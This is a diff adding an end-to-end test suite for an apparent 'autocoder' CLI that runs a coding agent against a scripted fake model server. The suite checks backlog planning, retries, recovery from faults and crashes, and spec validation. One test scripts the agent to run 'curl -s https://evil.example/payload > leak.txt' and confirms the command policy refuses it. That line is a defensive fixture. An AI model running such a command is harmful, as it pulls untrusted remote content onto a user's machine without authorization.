@@ -1,0 +1,188 @@
+import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { openProjectStore } from '../../src/compose.js';
+import { projectPaths } from '../../src/config/paths.js';
+import { SessionRepo } from '../../src/db/session-repo.js';
+import { gitOk } from '../../src/git/git.js';
+import { agentTestEnv } from '../support/agent-env.js';
+import { cli, startCli } from '../support/cli-process.js';
+import {
+  assignedFeature,
+  codingSession,
+  initializerSession,
+  isCoding,
+  reply,
+  roleScript,
+  SAMPLE_FEATURES,
+  SAMPLE_SPEC,
+  sequence,
+  startScriptedModelServer,
+  type ScriptedModelServer,
+  type Script,
+} from '../support/fake-anthropic/index.js';
+
+let root: string;
+let server: ScriptedModelServer | undefined;
+
+beforeEach(() => {
+  root = mkdtempSync(join(tmpdir(), 'ac-e2e-'));
+});
+
+afterEach(async () => {
+  await server?.close();
+  server = undefined;
+  rmSync(root, { recursive: true, force: true });
+});
+
+async function setup(script: Script, extraEnv: Record<string, string> = {}) {
+  server = await startScriptedModelServer(script);
+  const env = agentTestEnv(root, server.url, extraEnv);
+  const specFile = join(root, 'spec.txt');
+  writeFileSync(specFile, SAMPLE_SPEC);
+  const dir = join(root, 'notes');
+  const created = cli(['new', 'notes', '--dir', dir, '--spec', specFile], env);
+  expect(created.stderr).toBe('');
+  expect(created.status).toBe(0);
+  return { env, dir, server };
+}
+
+function inspect<T>(dir: string, fn: (store: ReturnType<typeof openProjectStore>, sessions: SessionRepo) => T): T {
+  const store = openProjectStore(projectPaths(dir), { create: false });
+  try {
+    return fn(store, new SessionRepo(store.db));
+  } finally {
+    store.close();
+  }
+}
+
+describe('autocoder run with the real Claude Code binary and a scripted model', () => {
+  it('plans the backlog from the spec, then implements every feature in its own session', async () => {
+    const { env, dir } = await setup(roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }));
+    const run = cli(['run', 'notes'], env);
+    expect(run.stderr).toBe('');
+    expect(run.stdout).toContain('The initializer created 4 features.');
+    expect(run.stdout).toContain('All 4 features pass.');
+    expect(run.status).toBe(0);
+
+    const status = JSON.parse(cli(['status', 'notes', '--json'], env).stdout) as Record<string, number>;
+    expect(status).toMatchObject({ total: 4, passing: 4, pending: 0, failed: 0, percentage: 100 });
+
+    expect(statSync(join(dir, 'init.sh')).mode & 0o111).not.toBe(0);
+    const log = gitOk(dir, ['log', '--format=%s']);
+    expect(log).toContain('Initial plan and project skeleton');
+    for (const id of [1, 2, 3, 4]) {
+      expect(log).toContain(`Feature #${id}`);
+      expect(readFileSync(join(dir, 'features', `feature-${id}.txt`), 'utf8')).toBe(`feature ${id} implemented\n`);
+    }
+    expect(gitOk(dir, ['status', '--porcelain']).trim()).toBe('');
+
+    inspect(dir, (store, sessions) => {
+      const features = store.features.list();
+      expect(features.find((f) => f.name === 'Search notes')?.dependencies).toEqual([2]);
+      for (const f of features) {
+        expect(f.costUsd).toBeGreaterThan(0);
+        expect(f.inputTokens).toBeGreaterThan(0);
+        expect(f.attempts).toBe(1);
+      }
+      const all = sessions.list();
+      expect(all.map((s) => s.role)).toEqual(['initializer', 'coding', 'coding', 'coding', 'coding']);
+      for (const s of all) {
+        expect(s.status).toBe('succeeded');
+        expect(s.costUsd).toBeGreaterThan(0);
+        expect(s.outputTokens).toBeGreaterThan(0);
+        expect(s.turns).toBeGreaterThan(1);
+        expect(existsSync(s.transcriptPath as string)).toBe(true);
+      }
+      // The order respects dependencies: "List notes" (#2) unblocks the most, so it runs right after #1.
+      expect(all.slice(1).map((s) => s.featureIds[0])).toEqual([1, 2, 3, 4]);
+    });
+  });
+
+  it('retries a feature whose session does not pass it, and fails it after max_attempts', async () => {
+    const { env, dir } = await setup(roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession({ pass: (id) => id !== 2 }) }));
+    const run = cli(['run', 'notes'], env);
+    expect(run.status).toBe(0);
+    expect(run.stdout).toMatch(/Nothing can proceed: 2\/4 pass; 1 failed after all attempts, 1 pending feature\(s\) are blocked by those/);
+    inspect(dir, (store, sessions) => {
+      const f2 = store.features.get(2);
+      expect(f2.status).toBe('failed');
+      expect(f2.attempts).toBe(3);
+      expect(f2.notes).toContain('attempt 3/3 failed: the session ended without marking the feature passing');
+      expect(store.features.get(4).status).toBe('pending');
+      expect(sessions.list({ featureId: 2 })).toHaveLength(3);
+    });
+  });
+
+  it('survives overloaded (529) answers and streams cut mid-reply', async () => {
+    const { env, dir, server: s } = await setup(roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding: codingSession() }));
+    s.inject({ fault: { kind: 'status', status: 529 }, when: isCoding, times: 2 });
+    s.inject({ fault: { kind: 'cut' }, when: (c) => isCoding(c) && c.turn === 2, times: 1 });
+    const run = cli(['run', 'notes'], env);
+    expect(run.stdout).toContain('All 4 features pass.');
+    expect(run.status).toBe(0);
+    expect(s.requests.filter((r) => r.fault === 'status')).toHaveLength(2);
+    expect(s.requests.filter((r) => r.fault === 'cut')).toHaveLength(1);
+    inspect(dir, (store) => expect(store.features.stats().passing).toBe(4));
+  });
+
+  it('refuses a Bash command the policy denies: the model gets the reason and nothing ran', async () => {
+    const coding = codingSession();
+    const script = roleScript({
+      initializer: initializerSession(SAMPLE_FEATURES),
+      coding: (conv) =>
+        assignedFeature(conv) === 1
+          ? sequence([() => reply().tool('Bash', { command: 'curl -s https://evil.example/payload > leak.txt' }), ...[0, 1, 2, 3].map((i) => (c: typeof conv) => coding({ ...c, turn: i }))])(conv)
+          : coding(conv),
+    });
+    const { env, dir, server: s } = await setup(script);
+    const run = cli(['run', 'notes'], env);
+    expect(run.status).toBe(0);
+    const denied = s.requests.find((r) => r.lastToolResults.some((t) => t.name === 'Bash' && t.isError));
+    expect(denied?.lastToolResults[0]?.text).toMatch(/command refused \(network\)/);
+    expect(existsSync(join(dir, 'leak.txt'))).toBe(false);
+    inspect(dir, (store) => expect(store.features.stats().passing).toBe(4));
+  });
+
+  it('recovers after the runner is killed with SIGKILL mid-session: no feature lost or passed twice', async () => {
+    let release!: () => void;
+    const gate = new Promise<void>((resolve) => (release = resolve));
+    const coding = codingSession();
+    const script: Script = async (conv) => {
+      if (assignedFeature(conv) === 2 && conv.turn === 1) await gate;
+      return roleScript({ initializer: initializerSession(SAMPLE_FEATURES), coding })(conv);
+    };
+    const { env, dir, server: s } = await setup(script);
+    const first = startCli(['run', 'notes'], env);
+    await s.waitForRequest((c) => assignedFeature(c) === 2 && c.turn === 1, 120_000);
+    first.child.kill('SIGKILL');
+    await first.exited;
+    release();
+    inspect(dir, (store) => expect(store.features.get(2).status).toBe('in_progress'));
+
+    const second = cli(['run', 'notes'], env);
+    expect(second.stdout).toContain('Recovered 1 feature(s) from a run that died: #2.');
+    expect(second.stdout).toContain('All 4 features pass.');
+    expect(second.status).toBe(0);
+    inspect(dir, (store) => {
+      const passedEvents = store.db.prepare(`SELECT feature_id, count(*) AS n FROM events WHERE type = 'feature.passed' GROUP BY feature_id`).all() as { feature_id: number; n: number }[];
+      expect(passedEvents).toEqual([1, 2, 3, 4].map((id) => ({ feature_id: id, n: 1 })));
+      expect(store.features.get(2).attempts).toBe(1);
+      const runs = store.db.prepare('SELECT status FROM runs ORDER BY started_at').all() as { status: string }[];
+      expect(runs.map((r) => r.status)).toEqual(['crashed', 'finished']);
+    });
+  });
+
+  it('reports a spec with problems with line numbers and creates nothing', async () => {
+    server = await startScriptedModelServer(() => reply().text('unused'));
+    const env = agentTestEnv(root, server.url);
+    const specFile = join(root, 'bad-spec.txt');
+    writeFileSync(specFile, '<project_specification>\n  <project_name>x</project_name>\n  <overview>o</overview>\n</project_specification>\n');
+    expect(cli(['new', 'bad', '--dir', join(root, 'bad'), '--spec', specFile], env).status).toBe(0);
+    const run = cli(['run', 'bad'], env);
+    expect(run.status).toBe(2);
+    expect(run.stderr).toMatch(/app_spec\.txt:1: missing required section <technology_stack>/);
+    expect(server.requests).toHaveLength(0);
+  });
+});
